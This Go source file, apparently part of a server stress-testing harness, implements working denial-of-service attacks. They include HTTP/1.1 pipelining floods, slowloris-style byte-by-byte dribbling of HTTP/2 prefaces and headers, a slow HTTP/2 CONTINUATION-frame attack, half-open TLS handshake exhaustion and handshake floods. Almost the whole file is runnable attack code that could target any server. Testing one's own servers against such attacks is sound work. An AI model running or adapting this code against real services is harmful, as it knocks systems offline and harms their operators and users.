package attacks

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

const (
	// slowPeriod is between two bytes of an attacker that is slow.
	slowPeriod = 100 * time.Millisecond
	// halfOpen bounds the handshakes that an attacker leaves open, over all connections.
	halfOpen = 1000
)

// connectionAttacks are what is not HTTP/2, or not yet.
func connectionAttacks() []kind {
	return []kind{
		{name: "HTTP/1.1 pipelining", requests: true, run: pipeline},
		{name: "slow preface", bare: true, run: dribble([]string{"h2"}, func(*slot) string { return http2.ClientPreface })},
		{name: "slow headers, HTTP/1.1", requests: true, run: dribble(nil, request)},
		{name: "slow headers, HTTP/2", requests: true, run: http2Attack(1000, manner{}, beginHeaders, func(p *peer) error {
			p.raw(http2.FrameContinuation, 0, p.id, []byte{0x82}) // :method again
			<-time.After(slowPeriod)
			return nil
		})},
		{name: "half of a handshake", bare: true, run: halfHandshake},
		{name: "handshakes", bare: true, run: handshakes},
	}
}

// request is one of HTTP/1.1.
func request(s *slot) string {
	text := "GET " + s.Path + " HTTP/1.1\r\nHost: localhost\r\n"
	if s.Token != "" {
		text += "Authorization: Bearer " + s.Token + "\r\n"
	}
	return text + "\r\n"
}

// open opens a connection of TLS that speaks a protocol.
func (s *slot) open(ctx context.Context, protocols []string) (*tls.Conn, error) {
	tcp, err := s.connect(ctx, false)
	if err != nil {
		return nil, err
	}
	c := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols})
	if err := c.HandshakeContext(ctx); err != nil {
		tcp.Close()
		return nil, err
	}
	return c, nil
}

// pipeline asks many things at once.
func pipeline(ctx context.Context, s *slot) error {
	c, err := s.open(ctx, nil)
	if err != nil {
		return err
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	const n = 20
	text := []byte(strings.Repeat(request(s), n))
	for s.pace(ctx, 100) {
		written, err := c.Write(text)
		s.stats.Bytes.Add(int64(written))
		if err != nil {
			return err
		}
		s.stats.Requests.Add(n)
	}
	return nil
}

// dribble writes something byte by byte.
func dribble(protocols []string, text func(*slot) string) func(context.Context, *slot) error {
	return func(ctx context.Context, s *slot) error {
		c, err := s.open(ctx, protocols)
		if err != nil {
			return err
		}
		defer c.Close()
		for _, b := range []byte(text(s)) {
			if !wait(ctx, slowPeriod) {
				return nil
			}
			if _, err := c.Write([]byte{b}); err != nil {
				return err
			}
			s.stats.Bytes.Add(1)
		}
		return nil
	}
}

// halfHandshake begins handshakes and leaves them.
func halfHandshake(ctx context.Context, s *slot) error {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for s.pace(ctx, 300) {
		if len(held) >= halfOpen/s.Conns {
			held[0].Close()
			held = held[1:]
		}
		c, err := s.connect(ctx, false)
		if err != nil {
			return err
		}
		held = append(held, c)
		// The beginning of a ClientHello of 512 bytes.
		n, err := c.Write(append([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, make([]byte, 100)...))
		s.stats.Bytes.Add(int64(n))
		if err != nil {
			return err
		}
	}
	return nil
}

// handshakes shakes hands and goes.
func handshakes(ctx context.Context, s *slot) error {
	for s.pace(ctx, 100) {
		c, err := s.open(ctx, []string{"h2"})
		if err != nil {
			return err
		}
		c.Close()
	}
	return nil
}
